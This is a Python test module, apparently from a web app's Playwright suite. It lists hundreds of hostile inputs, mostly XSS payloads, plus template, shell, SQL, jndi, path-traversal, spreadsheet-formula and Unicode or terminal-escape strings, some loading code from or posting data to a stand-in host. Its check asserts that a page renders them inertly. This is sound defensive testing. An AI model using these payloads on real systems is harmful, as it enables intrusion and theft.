"""Three hundred texts that an attacker might log, or use as a name, to harm whoever views them.

Many try to call `strike`, which a watched page has, or to reach another host.
"""

import re
from itertools import chain

from playwright.sync_api import Page

EVENTS = [
    "onabort",
    "onafterprint",
    "onanimationend",
    "onanimationstart",
    "onauxclick",
    "onbeforetoggle",
    "onblur",
    "oncanplay",
    "onclick",
    "oncontextmenu",
    "oncut",
    "ondblclick",
    "onerror",
    "onfocus",
    "onfocusin",
    "onhashchange",
    "oninput",
    "onkeydown",
    "onload",
    "onloadstart",
    "onmousedown",
    "onmouseenter",
    "onmouseover",
    "onpageshow",
    "onplay",
    "onpointerdown",
    "onpointerenter",
    "onpointerover",
    "onresize",
    "onscroll",
    "onscrollend",
    "ontoggle",
    "ontransitionend",
    "onwheel",
]

MARKUP = [
    "<script>strike(1)</script>",
    "<ScRiPt>strike(1)</sCrIpT>",
    "<script src=//elsewhere.invalid/a.js></script>",
    "<script type=module>strike(1)</script>",
    "<script>strike(1)//",
    "<scr<script>ipt>strike(1)</scr</script>ipt>",
    "</script><script>strike(1)</script>",
    "</title><script>strike(1)</script>",
    "</textarea><script>strike(1)</script>",
    "</style><script>strike(1)</script>",
    "</noscript><script>strike(1)</script>",
    "--><script>strike(1)</script>",
    "]]><script>strike(1)</script>",
    "<!--<script>strike(1)</script>-->",
    "<![CDATA[<script>strike(1)</script>]]>",
    "<?xml version='1.0'?><script>strike(1)</script>",
    "<!DOCTYPE html><script>strike(1)</script>",
    "<img src=x onerror=strike(1)>",
    "<img src=x:x onerror='strike(1)'>",
    '<img src="x` `<script>strike(1)</script>"` `>',
    "<img/src=x/onerror=strike(1)>",
    "<img\tsrc=x\tonerror=strike(1)>",
    "<IMG SRC=javascript:strike(1)>",
    "<img src=//elsewhere.invalid/a.png>",
    "<img srcset=//elsewhere.invalid/a.png>",
    "<image href=x onerror=strike(1)>",
    "<svg onload=strike(1)>",
    "<svg/onload=strike(1)>",
    "<svg><script>strike(1)</script></svg>",
    "<svg><script href=//elsewhere.invalid/a.js></script></svg>",
    "<svg><animate onbegin=strike(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:strike(1)>",
    "<svg><a xlink:href=javascript:strike(1)><text y=9>x</text></a></svg>",
    "<svg><use href=//elsewhere.invalid/a.svg#a></svg>",
    "<svg><foreignObject><iframe onload=strike(1)></foreignObject></svg>",
    "<math><mtext></p><script>strike(1)</script>",
    "<math href=javascript:strike(1)>x</math>",
    "<iframe src=javascript:strike(1)></iframe>",
    "<iframe srcdoc='<script>parent.strike(1)</script>'></iframe>",
    "<iframe src=//elsewhere.invalid></iframe>",
    "<frameset onload=strike(1)>",
    "<object data=javascript:strike(1)></object>",
    "<object data=//elsewhere.invalid/a.swf></object>",
    "<embed src=javascript:strike(1)>",
    "<embed src=//elsewhere.invalid/a.svg>",
    "<applet code=a archive=//elsewhere.invalid></applet>",
    "<base href=//elsewhere.invalid/>",
    "<link rel=stylesheet href=//elsewhere.invalid/a.css>",
    "<link rel=prefetch href=//elsewhere.invalid>",
    "<link rel=import href=//elsewhere.invalid>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.invalid'>",
    "<meta http-equiv=refresh content='0;url=javascript:strike(1)'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<style>@import '//elsewhere.invalid/a.css'</style>",
    "<style>body{background:url(//elsewhere.invalid/a.png)}</style>",
    "<style>*{display:none!important}</style>",
    "<style onload=strike(1)></style>",
    "<div style='background:url(//elsewhere.invalid/a.png)'>",
    "<div style='position:fixed;inset:0;z-index:99'>You were signed out",
    "<div style=width:expression(strike(1))>",
    "<table background=//elsewhere.invalid/a.png>",
    "<td background=javascript:strike(1)>",
    "<body onload=strike(1)>",
    "<body background=//elsewhere.invalid/a.png>",
    "<html manifest=//elsewhere.invalid>",
    "<input autofocus onfocus=strike(1)>",
    "<input type=image src=x onerror=strike(1)>",
    "<select autofocus onfocus=strike(1)>",
    "<textarea autofocus onfocus=strike(1)>",
    "<keygen autofocus onfocus=strike(1)>",
    "<button formaction=javascript:strike(1)>Sign in</button>",
    "<form action=javascript:strike(1)><button>x</button></form>",
    "<form action=//elsewhere.invalid><input name=password></form>",
    "<form id=app><input name=innerHTML></form>",
    "<isindex type=image src=1 onerror=strike(1)>",
    "<video src=x onerror=strike(1)></video>",
    "<video><source onerror=strike(1)></video>",
    "<video poster=//elsewhere.invalid/a.png>",
    "<audio src=x onerror=strike(1)></audio>",
    "<track src=//elsewhere.invalid default>",
    "<details open ontoggle=strike(1)>x</details>",
    "<dialog open onclose=strike(1)>x</dialog>",
    "<marquee onstart=strike(1)>x</marquee>",
    "<bgsound src=javascript:strike(1)>",
    "<layer src=//elsewhere.invalid></layer>",
    "<xss id=x tabindex=1 onfocus=strike(1)></xss>",
    "<xml onreadystatechange=strike(1)>",
    "<template><script>strike(1)</script></template>",
    "<template shadowrootmode=open><script>strike(1)</script></template>",
    "<slot onslotchange=strike(1)>",
    "<noscript><p title='</noscript><img src=x onerror=strike(1)>'>",
    "<a href=javascript:strike(1)>click</a>",
    "<a href='java\tscript:strike(1)'>click</a>",
    "<a href=data:text/html,<script>strike(1)</script>>click</a>",
    "<a href=//elsewhere.invalid ping=//elsewhere.invalid>click</a>",
    "<a target=_blank href=//elsewhere.invalid>click</a>",
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "<!--",
    "<",
    "<<<<>>>>",
    "</",
    "<a",
    "&lt;script&gt;strike(1)&lt;/script&gt;",
    "&#60;script&#62;strike(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;strike(1)&#x3c;/script&#x3e;",
    "&amp;lt;b&amp;gt;",
    "&nbsp;&copy;&notin;",
    "%3Cscript%3Estrike(1)%3C/script%3E",
    "\\u003cscript\\u003estrike(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3estrike(1)\\x3c/script\\x3e",
    "+ADw-script+AD4-strike(1)+ADw-/script+AD4-",
    "<b>bold</b> <i>italic</i> <u>underlined</u>",
    "<h1>Server error</h1><p>Please sign in again",
]

CODE = [
    "javascript:strike(1)",
    "JaVaScRiPt:strike(1)",
    " javascript:strike(1)",
    "javascript://%0astrike(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/javascript,strike(1)",
    "blob://elsewhere.invalid/1",
    "file:///etc/passwd",
    "https://elsewhere.invalid/a?b=<script>",
    "'-strike(1)-'",
    '"-strike(1)-"',
    "`-strike(1)-`",
    "';strike(1);//",
    '";strike(1);//',
    "\\';strike(1);//",
    "');strike(1);('",
    '"});strike(1);//',
    "' onmouseover=strike(1) x='",
    '" onmouseover=strike(1) x="',
    "' autofocus onfocus=strike(1) '",
    '"><img src=x onerror=strike(1)>',
    "'><svg/onload=strike(1)>",
    "alert(1)",
    "eval('strike(1)')",
    "setTimeout('strike(1)')",
    "import('//elsewhere.invalid/a.js')",
    "fetch('//elsewhere.invalid')",
    "{{constructor.constructor('strike(1)')()}}",
    "{{7*7}}",
    "${7*7}",
    "${strike(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% strike(1) %}",
    "{@html '<img src=x onerror=strike(1)>'}",
    "{#if true}{strike(1)}{/if}",
    "{$on.constructor('strike(1)')()}",
    "[[${7*7}]]",
    "*{7*7}",
    "@(7*7)",
    "$(touch /tmp/a)",
    "`touch /tmp/a`",
    "; ls -la",
    "| cat /etc/passwd",
    "${jndi:ldap://elsewhere.invalid/a}",
    "() { :;}; echo vulnerable",
    "%s%s%s%n%x%p",
    "%(message)s {0} {}",
    "' OR 1=1 --",
    "'; DROP TABLE events; --",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/dev/null",
    "CON",
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("//elsewhere.invalid","click")',
    '=IMPORTXML("//elsewhere.invalid","//a")',
    "| stats count()",
    "* | delete",
    'field:="value" OR *',
    "NOT *",
    "# comment",
    "a,b;c\td",
    '"quoted "" twice"',
    "'single'",
    "back\\slash\\",
    "(((((((((([[[[[{{{{{",
    "*?[a-z]",
    "^(a+)+$",
    "[object Object]",
]

NAMES = [
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "toJSON",
    "then",
    "length",
    "name",
    "__defineGetter__",
    "__lookupSetter__",
    "isPrototypeOf",
    "null",
    "undefined",
    "NaN",
    "Infinity",
    "-0",
    "true",
    "false",
    "other",
    "_id",
    "_time",
    "_raw",
    "_env",
    "default",
    "window",
    "document",
    "location",
    "innerHTML",
    "onclick",
    "0",
    "1e309",
    "9007199254740993",
    "123456789012345678901234567890",
    "0x10",
    "1_000",
    "0.1.2",
    "a.b.c..d",
    ".",
    "..",
    "...",
    "@timestamp",
    "$",
    "@",
]

WRITING = [
    "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645",
    "\u05e9\u05dc\u05d5\u05dd abc 123",
    "abc \u05d0\u05d1\u05d2 <b>",
    "\u65e5\u672c\u8a9e\u306e\u30ed\u30b0",
    "\ud55c\uad6d\uc5b4",
    "\u0e2a\u0e27\u0e31\u0e2a\u0e14\u0e35",
    "\u0928\u092e\u0938\u094d\u0924\u0947",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319a\u0324\u031e\u0349l\u0356g\u0362o",
    "e\u0301 \u00e9 \u212b \u00c5",
    "\u0130stanbul \u0131 \u017f \u00df",
    "\ufb01\ufb02 \u2126 \u2460",
    "\uff1cscript\uff1estrike(1)\uff1c/script\uff1e",
    "\u2039script\u203astrike(1)",
    "\u02bcscript\u02bc",
    "\u0430dmin p\u0430ypal",
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "\U0001d4d7\U0001d4ee\U0001d4f5\U0001d4f5\U0001d4f8",
    "\U00020000 \U0010fffd \ue000",
    "\ufffd \ufffe \uffff",
    "\u00a0\u2003\u3000 wide blanks",
    "\ufdfd",
    "\u0bf5 \U00012031",
]

UNSEEN = [
    "zero\u200bwidth\u200bblank",
    "left\u200eto\u200fright",
    "\u202egnp.exe\u202c",
    "\u202axyz\u202b",
    "\u202dabc",
    "\u2066isolated\u2069\u2067too\u2068",
    "\u061carabic mark",
    "word\u2060joiner",
    "\ufeffmark of order",
    "line\u2028separator\u2029paragraph",
    "/* \u202e } \u2066if (isAdmin)\u2069 \u2066 begin */",
    "nul\x00nul",
    "bell\x07",
    "back\x08\x08\x08space",
    "vertical\x0btab\x0cfeed",
    "carriage\rreturn",
    "delete\x7f",
    "next\x85line",
    "\x01\x02\x03\x04\x05\x06\x0e\x0f",
    "\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1c\x1d\x1e\x1f",
    "\x80\x81\x8d",
    "<scr\x00ipt>strike(1)</script>",
    "java\x00script:strike(1)",
]

TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b[1;38;5;196mbright\x1b[m",
    "\x1b[2J\x1b[Hcleared",
    "\x1b]0;title\x07after",
    "\x1b]8;;https://elsewhere.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[31m<script>strike(1)</script>\x1b[0m",
    "\x1bPq#0\x1b\\picture",
    "\x9b31mold\x9b0m",
    "\x1b",
    "\x1b[",
    "\x1bc reset",
    "<\x1b[0mscript>strike(1)</script>",
]

LINES = [
    "one\ntwo\nthree",
    "one\r\ntwo",
    "\ttab",
    "first\n<script>strike(1)</script>",
    "\n\n\n",
]

LONG = ["a" * 400, "<b>" * 120, "long " * 90, "\u202e" * 40, "&" * 300, "((((" * 80]


def list_hostile() -> list[str]:
    """Return all hostile texts, each once."""
    handlers = [f"<x {event}=strike(1) tabindex=1>" for event in EVENTS]
    families = [MARKUP, handlers, CODE, NAMES, WRITING, UNSEEN, TERMINAL, LINES, LONG]
    return list(dict.fromkeys(chain.from_iterable(families)))


HOSTILE = list_hostile()

OBEYED = re.compile(
    r"(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]?"
    r"|(?:\x1b[\]PX^_]|[\x90\x98\x9d-\x9f])[^\x07\x1b\x9c\n]*(?:\x07|\x1b\\|\x9c)?"
    r"|\x1b[ -/]*[0-~]?"
)
"""What a terminal would obey."""
NOT_SEEN = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]"
)


def show_text(text: str) -> str:
    """Return a text as a page shows it, with invisible characters spelled out."""
    bare = (OBEYED.sub("", text) or text).replace("\r\n", "\n")
    return NOT_SEEN.sub(lambda found: f"<U+{ord(found[0]):04X}>", bare)


def show_line(text: str) -> str:
    return show_text(text).replace("\n", "⏎").replace("\t", " ")


SUSPECTS = """
() => {
  const tags = 'script iframe frame object embed base meta img style link video audio applet template x xss'
  const list = (root) =>
    [...root.querySelectorAll('*')].flatMap((each) => [each, ...(each.shadowRoot ? list(each.shadowRoot) : [])])
  const found = list(document.body).flatMap((element) => [
    // The editor holds places with images of nothing.
    ...(tags.split(' ').includes(element.localName) && !element.matches('img:not([src])')
      ? [element.outerHTML.slice(0, 200)] : []),
    ...[...element.attributes]
      .filter(({ name, value }) => name.startsWith('on') || /^\\s*javascript:/i.test(value))
      .filter(({ name }) => !['aria-label', 'data-field', 'value', 'placeholder'].includes(name))
      .map(({ name, value }) => `${element.localName} ${name}=${value}`),
  ])
  if (globalThis.polluted !== undefined || {}.polluted !== undefined) found.push('a polluted prototype')
  return found
}
"""


def expect_harmless(page: Page) -> None:
    """Check that no text was interpreted as HTML; executed scripts and requests are watched all the time."""
    suspects = page.evaluate(SUSPECTS)
    assert suspects == []
